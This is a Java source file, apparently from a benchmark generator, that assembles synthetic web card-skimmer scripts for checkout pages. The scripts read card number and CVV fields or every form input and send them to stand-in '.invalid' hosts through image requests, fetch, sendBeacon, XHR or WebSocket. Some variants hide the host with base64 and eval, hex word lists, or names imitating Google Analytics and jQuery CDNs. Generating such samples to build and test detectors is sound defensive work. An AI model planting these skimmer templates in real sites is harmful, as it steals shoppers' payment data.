package org.evenkeel.bench.webroot;

import java.util.List;

/// Invents scripts that copy what customers type.
final class Skimmers {
  private static final List<String> CARD =
      List.of(
          "document.querySelector('[name=\"payment[cc_number]\"]').value",
          "document.getElementById('cc-number').value",
          "$('#stripe-card-number').val()",
          "jQuery('input[name=cardnumber]').val()",
          "document.getElementsByName('card_number')[0].value");

  private final Disguises by;

  Skimmers(Disguises by) {
    this.by = by;
  }

  private String host() {
    return "https://" + by.name() + "-cdn.invalid/c.php";
  }

  private String send(String data) {
    String url = host();
    return by.any(
        List.of(
            "new Image().src='" + url + "?d='+" + data + ";",
            "fetch('" + url + "',{method:'POST',body:" + data + "});",
            "navigator.sendBeacon('" + url + "'," + data + ");",
            "var x=new XMLHttpRequest();x.open('POST','" + url + "',true);x.send(" + data + ");",
            "$.post('" + url + "',{d:" + data + "});",
            "var i=document.createElement('img');i.setAttribute('src','"
                + url
                + "?q='+"
                + data
                + ");",
            "var w=new WebSocket('wss://" + by.name() + ".invalid/s');w.send(" + data + ");"));
  }

  private String gate(String body) {
    String name = by.name();
    return by.any(
        List.of(
            "if(location.href.match(/checkout|onepage/)){" + body + "}",
            "(function(){if(/checkout/.test(window.location.pathname)){setInterval(function(){"
                + body
                + "},1500);}})();",
            "document.addEventListener('submit',function(e){"
                + body
                + "},true);if(location.href.indexOf('checkout')>0){console.log(1)}",
            "function "
                + name
                + "(){"
                + body
                + "}document.querySelector('#place-order,#checkout').addEventListener('click',"
                + name
                + ");"));
  }

  Shape card() {
    String v = by.name();
    return js(
        "card fields",
        gate(
            "var "
                + v
                + "="
                + by.any(CARD)
                + "+'|'+"
                + by.any(CARD)
                + ";"
                + send("btoa(" + v + ")")));
  }

  Shape cardPlain() {
    return js(
        "card fields, not encoded",
        gate(
            "var o={};o.n="
                + by.any(CARD)
                + ";o.u=location.host;"
                + send("encodeURIComponent(JSON.stringify(o))")));
  }

  Shape allFields() {
    String loop =
        by.any(
            List.of(
                "var d={};document.querySelectorAll('input, select,"
                    + " textarea').forEach(function(e){d[e.name]=e.value;});",
                "var d=[];var f=document.getElementsByTagName('input');for(var"
                    + " i=0;i<f.length;i++){d.push(f[i].name+'='+f[i].value);}",
                "var d=$('form#checkout').serialize();",
                "let d='';for(const e of"
                    + " document.querySelectorAll('input,select')){d+=e.id+':'+e.value+';';}",
                "var d={};$('input,"
                    + " select').each(function(i,e){d[$(e).attr('name')]=$(e).val();});"));
    return js("all fields", gate(loop + send("btoa(JSON.stringify(d))")));
  }

  Shape ownFunction() {
    String f = by.name();
    return js(
        "through a function of its own",
        "function " + f + "(d){" + send("btoa(d)") + "}" + gate(f + "(" + by.any(CARD) + ");"));
  }

  Shape hiddenHost() {
    String v = by.name();
    return js(
        "address hidden",
        "var "
            + v
            + "="
            + by.hidden(host())
            + ";"
            + gate(
                "var s=document.createElement('script');s.src="
                    + v
                    + ";document.head.appendChild(s);"));
  }

  Shape hiddenFields() {
    String n = by.name();
    String u = by.name();
    return js(
        "fields and address hidden",
        "var "
            + n
            + "="
            + by.hidden("payment[cc_number]")
            + ","
            + by.name()
            + "="
            + by.hidden("payment[cc_cid]")
            + ","
            + u
            + "="
            + by.hidden(host())
            + ";document.addEventListener('change',function(){var e=document.getElementsByName("
            + n
            + ")[0];new Image().src="
            + u
            + "+'?'+btoa(e.value);});");
  }

  Shape packedCode() {
    String inner = gate("var v=" + by.any(CARD) + ";" + send("btoa(v)"));
    return js(
        "code packed",
        by.any(
                List.of(
                    "eval(%s);",
                    "new Function(%s)();", "(new Function(%s))();", "window.eval(%s);"))
            .formatted("atob('" + Disguises.base64(inner) + "')"));
  }

  Shape wordList() {
    String list = "_0x" + Integer.toHexString(0x1000 + by.name().hashCode() & 0xffff);
    String use = list + "f";
    StringBuilder body =
        new StringBuilder(
            "var "
                + list
                + "=['"
                + Disguises.base64("payment[cc_number]")
                + "','"
                + Disguises.base64("payment[cc_cid]")
                + "','"
                + Disguises.base64(host())
                + "','"
                + Disguises.base64("checkout/onepage")
                + "','"
                + Disguises.base64("addEventListener")
                + "'];");
    body.append("var ")
        .append(use)
        .append("=function(a,b){return atob(")
        .append(list)
        .append("[a-0x0]);};");
    for (int i = 0; i < 12; i++) {
      body.append("var _0x")
          .append(Integer.toHexString(0xa000 + i))
          .append("=")
          .append(use)
          .append("('0x")
          .append(i % 5)
          .append("');");
    }
    return js("list of coded words", body.toString());
  }

  Shape fakeTag() {
    String host =
        "https://"
            + by.any(
                List.of(
                    "google-analytics-cdn", "googletagmanager-js", "jquery-static", "magento-cdn"))
            + ".invalid/gtm.js";
    return js(
        "imitated name",
        gate(
            "var a=document.createElement('script');a.async=true;a.src='"
                + host
                + "';document.body.appendChild(a);"));
  }

  private Shape js(String shape, String body) {
    String before =
        by.coin()
            ? "/*! "
                + by.name()
                + " v1.2 */\n!function(e,t){e."
                + by.name()
                + "=function(n){return n.length/2>t?n:/[a-z\"]+/.test(n)}}(window,3);\n"
            : "";
    return new Shape(shape, "js/" + by.name() + ".js", before + body + "\n");
  }
}
